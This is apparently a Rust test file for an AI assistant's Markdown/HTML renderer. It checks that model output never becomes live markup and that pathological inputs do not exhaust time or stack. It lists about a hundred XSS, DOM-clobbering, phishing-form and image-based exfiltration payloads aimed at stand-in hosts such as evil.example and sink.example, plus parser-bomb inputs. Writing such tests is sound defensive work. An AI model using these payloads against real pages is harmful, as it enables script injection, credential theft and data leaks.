//! Model output that wants to be more than text.

use gpt_assistant::render::{blocks, html, is_guarded};

use crate::checker::visible;

/// Payloads of cross-site scripting, tracking, clobbering and phishing.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=\"https://evil.example/p.png?d=SECRET\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=1em>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=image href=https://evil.example/x>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video poster=https://evil.example/x><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a id=message name=message>clobber</a>",
    "<img name=getElementById>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://a.example \"onmouseover=alert(1)\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://a.example/\"onclick=\"alert(1)>",
    "https://a.example/\"onclick=\"alert(1)",
    "[x]: javascript:alert(1)\n\n[x] [x][x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x\"onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://sink.example/?d=SECRET)",
    "![x][r]\n\n[r]: https://sink.example/?d=SECRET",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "```diff\n+<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "`</code><script>alert(1)</script>`",
    "$\\operatorname{<img src=x onerror=alert(1)>}$",
    "$\\operatorname{</math><script>alert(1)</script>}$",
    "$\\text{</mtext><img src=x onerror=alert(1)>}$",
    "$\\mathop{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\class{x\" onclick=\"alert(1)}{x}$",
    "$\\begin{<img src=x>}\\end{x}$",
    "$\\unicode{<script>}$ $\\char\"3C$ $\\char你$",
    "$$<script>alert(1)</script>$$",
    "\\[</math><script>alert(1)</script>\\]",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "- [x] <script>alert(1)</script>",
    "[^<script>]: <img src=x onerror=alert(1)>\n\na[^<script>]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#60;/script&#62;",
    "&#xfdd7;script&#xfddd;alert(1)",
    "\u{fdd7}script\u{fddd}alert(1)\u{fdd7}/script\u{fddd}",
    "\0<script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "<a@evil.example>\"onclick=alert(1)",
    "www.evil.example\"onclick=alert(1)",
    "<br onclick=alert(1)> <br/onclick=alert(1)>",
];

#[test]
fn w1_w2_w8_no_payload_is_more_than_text() {
    for payload in PAYLOADS {
        for wrapped in [
            (*payload).to_owned(),
            format!("a {payload} b"),
            format!("- {payload}\n\n  > {payload}"),
            format!("**{payload}** [{payload}](https://a.example)"),
            format!("| a |\n|---|\n| {payload} |"),
            format!("<div>\n{payload}\n\n{payload}"),
            format!("```\n{payload}\n"),
            format!("[^1]\n\n[^1]: {payload}"),
            payload.replace(' ', "\n"),
        ] {
            visible(&wrapped);
        }
    }
}

#[test]
fn w2_no_payload_is_ever_more_than_text_while_it_comes() {
    for payload in PAYLOADS {
        let text = format!("{payload}\n\n{payload}\n");
        let mut stream = gpt_assistant::render::Stream::new();
        for end in (0..=text.len()).filter(|&end| text.is_char_boundary(end)) {
            for change in stream.update(&text[..end]) {
                crate::checker::check(&change.html.unwrap_or("<hr>".into())).unwrap();
            }
        }
    }
}

#[test]
fn w5_nothing_is_fetched() {
    for payload in PAYLOADS {
        let html = html(payload);
        for tag in [
            "<img", "<link", "<video", "<audio", "<iframe", "<object", "<embed", "<source", "<style", "<svg",
            "<base", "<meta",
        ] {
            assert!(!html.contains(tag), "{html}");
        }
    }
    assert!(
        html("![x](https://sink.example/?d=SECRET)")
            .contains("rel=\"noopener noreferrer nofollow\" target=\"_blank\">x (sink.example)</a>")
    );
}

/// Texts that cost other renderers minutes, of about `size` bytes.
pub fn bombs(size: usize) -> Vec<(&'static str, String)> {
    let fill = |unit: &str| unit.repeat(size / unit.len());
    let mut bombs: Vec<(&str, String)> = [
        ("quotes", ">"),
        ("quotes apart", "> "),
        ("divs", "<div>"),
        ("divs in lines", "<div>\n"),
        ("brackets", "["),
        ("closed brackets", "[]"),
        ("open emphasis", "*a "),
        ("stars", "*"),
        ("stars and underscores", "*a _b "),
        ("bold", "**a** "),
        ("dollars", "$a "),
        ("dollar angle", "<$"),
        ("two dollars", "$$a "),
        ("round", "\\(a "),
        ("square", "\\["),
        ("square lines", "\\[\n"),
        ("backticks", "` `` ``` "),
        ("tildes", "~~a "),
        ("links", "[a](b "),
        ("links angle", "[a](<b"),
        ("links deep", "[a]("),
        ("images", "![a"),
        ("addresses", "http://a<"),
        ("www", "(www.a<"),
        ("chinese hosts", "https://你好"),
        ("at signs", "a@"),
        ("mails", "a@b.c "),
        ("comments", "<!--"),
        ("comment lines", "<!--\n"),
        ("declarations", "<!A "),
        ("instructions", "<?"),
        ("cdata", "<![CDATA["),
        ("tags", "<a b=\""),
        ("entities", "&amp;"),
        ("ampersands", "&"),
        ("rows", "|a"),
        ("row lines", "|a|\n"),
        ("delimiters", "|-|\n"),
        ("list", "- "),
        ("list lines", "- a\n"),
        ("numbers", "1. "),
        ("blank lines", "\n"),
        ("carriage returns", "\r"),
        ("hashes", "#\n"),
        ("headings", "# a\n"),
        ("definitions", "[a]: b\n"),
        ("titles", "[a]: b \"c\n"),
        ("footnotes", "[^a]: "),
        ("footnote marks", "[^a]"),
        ("fences", "```\n"),
        ("tabs", "\t"),
        ("tasks", "- [ ] "),
        ("alerts", "> [!NOTE]\n"),
        ("backslashes", "\\"),
        ("escapes", "\\*"),
        ("setext", "a\n-\n"),
        ("breaks", "a  \n"),
        ("underscores", "_"),
        ("carets", "^["),
        ("formulas", "$a$ "),
        ("displays", "$$a$$\n\n"),
        ("braces", "${$"),
        ("bars", "|"),
        ("nul", "\0"),
        ("stand-ins", "\u{fdd0}"),
        ("chinese", "你好，**世界**。"),
        ("chinese stars", "**「"),
        ("code lines", "```js\nfoo(`a` + 1) // b\n```\n"),
    ]
    .iter()
    .map(|(name, unit)| (*name, fill(unit)))
    .collect();
    let levels = 300;
    let nested: String = (0..levels).map(|level| format!("{}- a\n", "  ".repeat(level))).collect();
    bombs.push(("nested list", nested.repeat(size / nested.len() + 1)));
    bombs.push((
        "nested list, blank lines",
        (0..40).map(|level| format!("{}- a\n", "  ".repeat(level))).collect::<String>() + &"\n".repeat(size),
    ));
    bombs.push(("deep quote, lazy lines", ">".repeat(size / 2) + &"\na".repeat(size / 4)));
    bombs.push(("list of quotes, blank lines", format!("- {}\n\n\nx", ">".repeat(size))));
    bombs.push((
        "wide table, short rows",
        "|a".repeat(500) + "|\n" + &"|-".repeat(500) + "|\n" + &"a\n".repeat(size / 2),
    ));
    bombs.push((
        "table, short rows",
        "|a".repeat(60) + "|\n" + &"|-".repeat(60) + "|\n" + &"a\n".repeat(size / 2),
    ));
    bombs.push(("openers before a heading", "\\(a ".repeat(size / 8) + "\n# " + &"\\) ".repeat(size / 8)));
    bombs.push(("openers before a tick", "\\(a ".repeat(size / 4) + "` \\)"));
    bombs.push(("dollars before a tick", "$$a ".repeat(size / 4) + "` $$"));
    bombs.push(("long word", "a".repeat(size)));
    bombs.push(("long chinese host", format!("https://{}", "你".repeat(size / 3))));
    bombs.push(("long address", "http://a.b/".to_owned() + &"a".repeat(size)));
    bombs.push(("blanks and dollars", " ".repeat(size / 2) + &"$$".repeat(size / 4)));
    bombs.push(("emphasis, deep", "*a ".repeat(size / 6) + &"b* ".repeat(size / 6)));
    bombs.push(("brackets, deep", "[".repeat(size / 2) + &"]".repeat(size / 2)));
    bombs.push(("images, deep", "![".repeat(size / 8) + &"](a)".repeat(size / 8)));
    bombs.push(("long formula", format!("${}$", "x+".repeat(size / 2))));
    bombs.push(("deep formula", format!("${}$", "\\hat".repeat(900))));
    bombs.push(("formulas, dense", "$\\frac{\\hat a}{\\sqrt{b^{c_d}}}$ ".repeat(size / 32)));
    bombs.push(("code, strings", format!("```js\n{}", "\"a\n".repeat(size / 3))));
    bombs.push(("code, comments", format!("```rust\n{}", "/*\n".repeat(size / 3))));
    bombs.push(("code, tags", format!("```html\n{}", "<script>\n".repeat(size / 9))));
    bombs
}

#[test]
fn i13_no_text_is_too_much() {
    // Answers are rendered on threads with small stacks, and an overflow would end the process.
    let work = || {
        bombs(16 << 10).iter().for_each(|(name, text)| is_bearable(name, text));
    };
    let thread = std::thread::Builder::new().stack_size(512 << 10).spawn(work).unwrap();
    thread.join().unwrap();
    assert!(!is_guarded());
}

fn is_bearable(name: &str, text: &str) {
    let start = std::time::Instant::now();
    let blocks = blocks(text);
    let took = start.elapsed();
    let size: usize = blocks.iter().map(String::len).sum();
    for block in &blocks {
        let fault = crate::checker::check(block)
            .err()
            .map(|fault| fault[..fault.floor_char_boundary(300)].to_owned());
        assert_eq!(fault, None, "{name}");
    }
    assert!(size < 48 * text.len() + 10_000, "{name}: {} bytes became {size}", text.len());
    assert!(took.as_secs() < 10, "{name}: {took:?}");
}
